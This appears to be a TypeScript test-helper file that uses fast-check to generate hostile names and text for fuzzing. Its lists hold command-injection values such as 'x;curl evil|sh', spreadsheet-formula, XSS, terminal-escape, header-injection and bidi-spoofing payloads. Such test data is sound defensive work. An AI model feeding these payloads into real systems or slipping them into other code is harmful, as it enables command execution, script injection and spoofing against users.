import fc from 'fast-check';

/** What a local user may call a program, a folder, a message: to be run, rendered, calculated, or to steer a reader. */
export const SHELL = [
  'x;curl evil|sh',
  '$(touch f)',
  '`touch f`',
  "';touch f;'",
  '"; touch f; "',
  'a\ntouch f',
  '&& touch f',
  '| sh',
  '> f',
  '-rf',
  '\\',
  "'\\''",
];
export const OTHER = [
  '=cmd()', '=HYPERLINK("http://evil","x")', '+1', '-1', '@SUM(1)', '\t=1+1', '\r=1', '＝1', '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>', '\u001b[31mred', '\u001b]0;title\u0007', '\u009b31m', 'a\r\nBcc: x@evil', 'x\u0000y', '\u202egnp.exe', '\u2066x', '漢字 😀',
  'https://evil.example/x', '<https://evil|click>', '*bold* _x_', '<!channel>', '@everyone', '{{7*7}}', '%s%n', '%0d%0aSet-Cookie: a',
]; // biome-ignore format: one list

const piece = fc.oneof(fc.constantFrom(...SHELL, ...OTHER), fc.string({ maxLength: 12, unit: 'binary' }), fc.string({ maxLength: 12 }));

/** One of these, or some in a row. */
export const hostileText = fc.array(piece, { minLength: 1, maxLength: 3 }).map((parts) => parts.join(''));

/** As one line of a listing or log. */
export const hostileLine = hostileText.map((text) => text.replaceAll(/[\r\n]/g, ' '));

/** As the kernel keeps a program's name: 15 bytes. */
export const hostileCommand = hostileLine.map((text) => Buffer.from(text).subarray(0, 15).toString('utf8').replaceAll(')', ''));
